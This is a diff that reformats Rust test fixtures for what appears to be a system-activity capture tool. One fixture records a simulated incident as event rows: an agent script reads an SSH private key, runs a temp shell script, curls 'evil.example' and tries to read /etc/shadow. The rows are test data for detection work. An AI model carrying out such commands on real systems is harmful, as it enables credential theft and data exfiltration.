@@ -11,13 +11,18 @@ use std::path::Path;
 use anyhow::Result;
 
 use crate::capture::manifest::BootAnchor;
-use crate::capture::rows::{FileRow, NetRow, ProcessRow, RowBuffers, StatRow, Subject, TlsChunkRow, TlsEventRow};
+use crate::capture::rows::{
+    FileRow, NetRow, ProcessRow, RowBuffers, StatRow, Subject, TlsChunkRow, TlsEventRow,
+};
 use crate::capture::{prepare_output_dir, CaptureWriter, Manifest, SealPolicy};
 use crate::schema::proc_key;
 
 pub const SEC: u64 = 1_000_000_000;
 /// Boot-time second 100 is wall-clock 2023-11-14T22:13:20Z in fixtures.
-pub const ANCHOR: BootAnchor = BootAnchor { boottime_ns: 100 * SEC, realtime_ns: 1_700_000_000 * SEC as i64 };
+pub const ANCHOR: BootAnchor = BootAnchor {
+    boottime_ns: 100 * SEC,
+    realtime_ns: 1_700_000_000 * SEC as i64,
+};
 
 /// Writes a closed capture into `dir` (which must not hold anything but a
 /// previous capture) with every row `fill` pushes; rows are flushed in
@@ -36,7 +41,10 @@ pub fn write_capture(
     manifest.host.hostname = "fixture".into();
     manifest.targets.mode = "command".into();
     // Small segments so that a fixture has several files per table.
-    let policy = SealPolicy { max_bytes: 1, ..SealPolicy::default() };
+    let policy = SealPolicy {
+        max_bytes: 1,
+        ..SealPolicy::default()
+    };
     let mut writer = CaptureWriter::create(dir, manifest, policy)?;
     let mut sink = |b: &mut RowBuffers| -> Result<()> {
         for (table, batch) in b.take_batches()? {
@@ -140,49 +148,111 @@ pub fn incident_with_anchor(dir: &Path, capture_id: &str, anchor: BootAnchor) ->
             argv: Some(vec!["bash"]),
             argv_truncated: Some(false),
             cwd: Some("/home/u"),
-            ..p(s(100_000, 100, k.bash, "bash"), "snapshot", Some(1), Some(k.init))
+            ..p(
+                s(100_000, 100, k.bash, "bash"),
+                "snapshot",
+                Some(1),
+                Some(k.init),
+            )
         });
-        b.process.push(&p(s(101_000, 200, k.python, "bash"), "fork", Some(100), Some(k.bash)));
+        b.process.push(&p(
+            s(101_000, 200, k.python, "bash"),
+            "fork",
+            Some(100),
+            Some(k.bash),
+        ));
         b.process.push(&ProcessRow {
             filename: Some("/usr/bin/python3"),
             argv: Some(vec!["python3", "agent.py"]),
             argv_truncated: Some(false),
             cwd: Some("/home/u/agent"),
-            ..p(s(101_100, 200, k.python, "python3"), "exec", Some(100), Some(k.bash))
+            ..p(
+                s(101_100, 200, k.python, "python3"),
+                "exec",
+                Some(100),
+                Some(k.bash),
+            )
         });
-        b.process.push(&p(s(102_000, 300, k.sh, "python3"), "fork", Some(200), Some(k.python)));
+        b.process.push(&p(
+            s(102_000, 300, k.sh, "python3"),
+            "fork",
+            Some(200),
+            Some(k.python),
+        ));
         b.process.push(&ProcessRow {
             filename: Some("/bin/sh"),
             argv: Some(vec!["sh", "-c", "bash /tmp/x.sh"]),
             argv_truncated: Some(false),
-            ..p(s(102_100, 300, k.sh, "sh"), "exec", Some(200), Some(k.python))
+            ..p(
+                s(102_100, 300, k.sh, "sh"),
+                "exec",
+                Some(200),
+                Some(k.python),
+            )
         });
         b.process.push(&ProcessRow {
             filename: Some("/usr/bin/bash"),
             argv: Some(vec!["bash", "/tmp/x.sh"]),
             argv_truncated: Some(false),
-            ..p(s(102_200, 300, k.sh, "bash"), "exec", Some(200), Some(k.python))
+            ..p(
+                s(102_200, 300, k.sh, "bash"),
+                "exec",
+                Some(200),
+                Some(k.python),
+            )
         });
-        b.process.push(&p(s(103_000, 400, k.curl, "bash"), "fork", Some(300), Some(k.sh)));
+        b.process.push(&p(
+            s(103_000, 400, k.curl, "bash"),
+            "fork",
+            Some(300),
+            Some(k.sh),
+        ));
         b.process.push(&ProcessRow {
             filename: Some("/usr/bin/curl"),
             argv: Some(vec!["curl", "-s", "https://evil.example"]),
             argv_truncated: Some(false),
-            ..p(s(103_100, 400, k.curl, "curl"), "exec", Some(300), Some(k.sh))
+            ..p(
+                s(103_100, 400, k.curl, "curl"),
+                "exec",
+                Some(300),
+                Some(k.sh),
+            )
         });
         sink(&mut b)?;
         // Batch 2: the rest of the lifecycle.
-        b.process.push(&ProcessRow { exit_code: Some(0), ..p(s(104_000, 400, k.curl, "curl"), "exit", None, None) });
-        b.process.push(&p(s(105_000, 400, k.cat, "python3"), "fork", Some(200), Some(k.python)));
+        b.process.push(&ProcessRow {
+            exit_code: Some(0),
+            ..p(s(104_000, 400, k.curl, "curl"), "exit", None, None)
+        });
+        b.process.push(&p(
+            s(105_000, 400, k.cat, "python3"),
+            "fork",
+            Some(200),
+            Some(k.python),
+        ));
         b.process.push(&ProcessRow {
             filename: Some("/usr/bin/cat"),
             argv: Some(vec!["cat", "/etc/shadow"]),
             argv_truncated: Some(false),
-            ..p(s(105_100, 400, k.cat, "cat"), "exec", Some(200), Some(k.python))
+            ..p(
+                s(105_100, 400, k.cat, "cat"),
+                "exec",
+                Some(200),
+                Some(k.python),
+            )
         });
-        b.process.push(&ProcessRow { exit_signal: Some(9), ..p(s(106_000, 400, k.cat, "cat"), "exit", None, None) });
-        b.process.push(&ProcessRow { exit_code: Some(0), ..p(s(110_000, 300, k.sh, "bash"), "exit", None, None) });
-        b.process.push(&ProcessRow { exit_code: Some(3), ..p(s(120_000, 200, k.python, "python3"), "exit", None, None) });
+        b.process.push(&ProcessRow {
+            exit_signal: Some(9),
+            ..p(s(106_000, 400, k.cat, "cat"), "exit", None, None)
+        });
+        b.process.push(&ProcessRow {
+            exit_code: Some(0),
+            ..p(s(110_000, 300, k.sh, "bash"), "exit", None, None)
+        });
+        b.process.push(&ProcessRow {
+            exit_code: Some(3),
+            ..p(s(120_000, 200, k.python, "python3"), "exit", None, None)
+        });
         // python exec'd itself again; the row arrives out of time order in a
         // later segment, which the views must not mind.
         b.process.push(&ProcessRow {
@@ -190,16 +260,78 @@ pub fn incident_with_anchor(dir: &Path, capture_id: &str, anchor: BootAnchor) ->
             argv: Some(vec!["python3", "agent.py", "--resume"]),
             argv_truncated: Some(true),
             cwd: Some("/home/u/agent"),
-            ..p(s(101_200, 200, k.python, "python3"), "exec", Some(100), Some(k.bash))
+            ..p(
+                s(101_200, 200, k.python, "python3"),
+                "exec",
+                Some(100),
+                Some(k.bash),
+            )
         });
 
-        let f = |subject, op, path, path2, flags, mode, ret| FileRow { subject, op, path, path2, dfd: -100, flags, mode, ret };
-        b.file.push(&f(s(101_500, 200, k.python, "python3"), "open", "/home/u/.ssh/id_rsa", None, 0o2000000, 0, 3));
-        b.file.push(&f(s(102_500, 300, k.sh, "bash"), "open", "/tmp/x.sh", None, 0o1101, 0o644, 4));
-        b.file.push(&f(s(102_600, 300, k.sh, "bash"), "chmod", "/tmp/x.sh", None, 0, 0o755, 0));
-        b.file.push(&f(s(102_700, 300, k.sh, "bash"), "rename", "/tmp/a", Some("/tmp/b"), 0, 0, 0));
-        b.file.push(&f(s(105_500, 400, k.cat, "cat"), "open", "/etc/shadow", None, 0, 0, -13));
-        b.file.push(&f(s(105_600, 400, k.cat, "cat"), "unlink", "/tmp/b", None, 0, 0, -2));
+        let f = |subject, op, path, path2, flags, mode, ret| FileRow {
+            subject,
+            op,
+            path,
+            path2,
+            dfd: -100,
+            flags,
+            mode,
+            ret,
+        };
+        b.file.push(&f(
+            s(101_500, 200, k.python, "python3"),
+            "open",
+            "/home/u/.ssh/id_rsa",
+            None,
+            0o2000000,
+            0,
+            3,
+        ));
+        b.file.push(&f(
+            s(102_500, 300, k.sh, "bash"),
+            "open",
+            "/tmp/x.sh",
+            None,
+            0o1101,
+            0o644,
+            4,
+        ));
+        b.file.push(&f(
+            s(102_600, 300, k.sh, "bash"),
+            "chmod",
+            "/tmp/x.sh",
+            None,
+            0,
+            0o755,
+            0,
+        ));
+        b.file.push(&f(
+            s(102_700, 300, k.sh, "bash"),
+            "rename",
+            "/tmp/a",
+            Some("/tmp/b"),
+            0,
+            0,
+            0,
+        ));
+        b.file.push(&f(
+            s(105_500, 400, k.cat, "cat"),
+            "open",
+            "/etc/shadow",
+            None,
+            0,
+            0,
+            -13,
+        ));
+        b.file.push(&f(
+            s(105_600, 400, k.cat, "cat"),
+            "unlink",
+            "/tmp/b",
+            None,
+            0,
+            0,
+            -2,
+        ));
 
         b.net.push(&NetRow {
             subject: s(101_600, 200, k.python, "python3"),
@@ -269,8 +401,18 @@ pub fn incident_with_anchor(dir: &Path, capture_id: &str, anchor: BootAnchor) ->
                 data: part,
             });
         }
-        b.stats.push(&StatRow { ts_ns: ms(110_000), cpu: None, counter: "events_received", value: 20 });
-        b.stats.push(&StatRow { ts_ns: ms(120_000), cpu: Some(0), counter: "ringbuf_reserve_fail_events", value: 0 });
+        b.stats.push(&StatRow {
+            ts_ns: ms(110_000),
+            cpu: None,
+            counter: "events_received",
+            value: 20,
+        });
+        b.stats.push(&StatRow {
+            ts_ns: ms(120_000),
+            cpu: Some(0),
+            counter: "ringbuf_reserve_fail_events",
+            value: 0,
+        });
         sink(&mut b)
     })
 }
@@ -289,7 +431,12 @@ pub struct SyntheticSpec {
 
 impl Default for SyntheticSpec {
     fn default() -> Self {
-        SyntheticSpec { processes: 1000, files_per_process: 7, batch_rows: 65_536, segment_bytes: 64 << 20 }
+        SyntheticSpec {
+            processes: 1000,
+            files_per_process: 7,
+            batch_rows: 65_536,
+            segment_bytes: 64 << 20,
+        }
     }
 }
 
@@ -314,12 +461,25 @@ impl Rng {
 }
 
 const PATHS: &[&str] = &[
-    "/etc/passwd", "/etc/hosts", "/usr/lib/libc.so.6", "/home/u/.ssh/id_rsa", "/tmp/out.txt",
-    "/home/u/project/src/main.rs", "/home/u/.bashrc", "/proc/self/status", "/dev/null", "/tmp/x.sh",
+    "/etc/passwd",
+    "/etc/hosts",
+    "/usr/lib/libc.so.6",
+    "/home/u/.ssh/id_rsa",
+    "/tmp/out.txt",
+    "/home/u/project/src/main.rs",
+    "/home/u/.bashrc",
+    "/proc/self/status",
+    "/dev/null",
+    "/tmp/x.sh",
 ];
 const PROGRAMS: &[(&str, &str)] = &[
-    ("/usr/bin/bash", "bash"), ("/usr/bin/python3", "python3"), ("/usr/bin/git", "git"),
-    ("/usr/bin/curl", "curl"), ("/usr/bin/cat", "cat"), ("/usr/bin/grep", "grep"), ("/usr/bin/node", "node"),
+    ("/usr/bin/bash", "bash"),
+    ("/usr/bin/python3", "python3"),
+    ("/usr/bin/git", "git"),
+    ("/usr/bin/curl", "curl"),
+    ("/usr/bin/cat", "cat"),
+    ("/usr/bin/grep", "grep"),
+    ("/usr/bin/node", "node"),
 ];
 
 /// A capture of `processes` processes: process 0 is the root snapshot, and
@@ -328,14 +488,21 @@ const PROGRAMS: &[(&str, &str)] = &[
 /// Each process has a fork,
 /// an exec and an exit, plus `files_per_process` file events each. Returns
 /// the manifest; the root's key is `proc_key(1000, SEC)`.
-pub fn synthetic(dir: &Path, spec: SyntheticSpec, mut progress: impl FnMut(u64)) -> Result<Manifest> {
+pub fn synthetic(
+    dir: &Path,
+    spec: SyntheticSpec,
+    mut progress: impl FnMut(u64),
+) -> Result<Manifest> {
     let mut anchor_manifest = ANCHOR;
     anchor_manifest.boottime_ns = SEC;
     prepare_output_dir(dir, true)?;
     let mut manifest = Manifest::new("synthetic".into());
     manifest.boot_anchor = anchor_manifest;
     manifest.host.machine = "x86_64".into();
-    let policy = SealPolicy { max_bytes: spec.segment_bytes, ..SealPolicy::default() };
+    let policy = SealPolicy {
+        max_bytes: spec.segment_bytes,
+        ..SealPolicy::default()
+    };
     let mut writer = CaptureWriter::create(dir, manifest, policy)?;
     let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
     let mut b = RowBuffers::default();
@@ -349,7 +516,14 @@ pub fn synthetic(dir: &Path, spec: SyntheticSpec, mut progress: impl FnMut(u64))
     for i in 0..spec.processes {
         let (pid, key, t0) = (pid_of(i), key_of(i), start_of(i));
         let (exe, comm) = PROGRAMS[rng.below(PROGRAMS.len() as u64) as usize];
-        let subject = |t: u64, comm: &'static str| Subject { ts_ns: t, pid, tid: pid, proc_key: key, comm, uid: 1000 };
+        let subject = |t: u64, comm: &'static str| Subject {
+            ts_ns: t,
+            pid,
+            tid: pid,
+            proc_key: key,
+            comm,
+            uid: 1000,
+        };
         if i == 0 {
             depth.push(0);
             b.process.push(&ProcessRow {
@@ -373,7 +547,11 @@ pub fn synthetic(dir: &Path, spec: SyntheticSpec, mut progress: impl FnMut(u64))
             } else {
                 let back = 1 + rng.below(16.min((i - session) as u64)) as usize;
                 let candidate = i - back;
-                if depth[candidate] < 5 { candidate } else { session }
+                if depth[candidate] < 5 {
+                    candidate
+                } else {
+                    session
+                }
             };
             depth.push(depth[parent] + 1);
             let (ppid, pkey) = (pid_of(parent), key_of(parent));
